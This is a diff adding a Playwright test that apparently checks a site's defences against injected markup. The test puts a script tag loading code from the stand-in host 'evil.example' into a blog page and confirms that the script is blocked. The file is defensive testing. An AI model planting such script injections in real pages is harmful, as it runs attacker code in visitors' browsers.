@@ -69,6 +69,18 @@ test.describe("what an attacker puts into a page", () => {
     expect(await page.evaluate(() => "stolen" in window)).toBe(false);
   });
 
+  test("a script that markup names as a bundle of the site does not run", async ({ page }) => {
+    const errors: string[] = [];
+    page.on("pageerror", ({ message }) => errors.push(message));
+    await page.route("https://evil.example/**", (route) => route.fulfill({ body: "window.stolen = true" }));
+    const injected = '<script type="late" src="https://evil.example/x.js"></script>';
+    await change(page, "**/blog", (html) => html.replace('<div id="___gatsby"', (start) => injected + start));
+    await page.goto("/blog");
+    await page.keyboard.press("Tab");
+    await expect.poll(() => errors.join()).toContain("https://evil.example/x.js");
+    expect(await page.evaluate(() => "stolen" in window)).toBe(false);
+  });
+
   test("a style attribute and a style block change nothing", async ({ page }) => {
     const violations = await watchViolations(page);
     const injected = '<p id="mark" style="position:fixed">x</p><style>#mark{position:fixed}</style>';
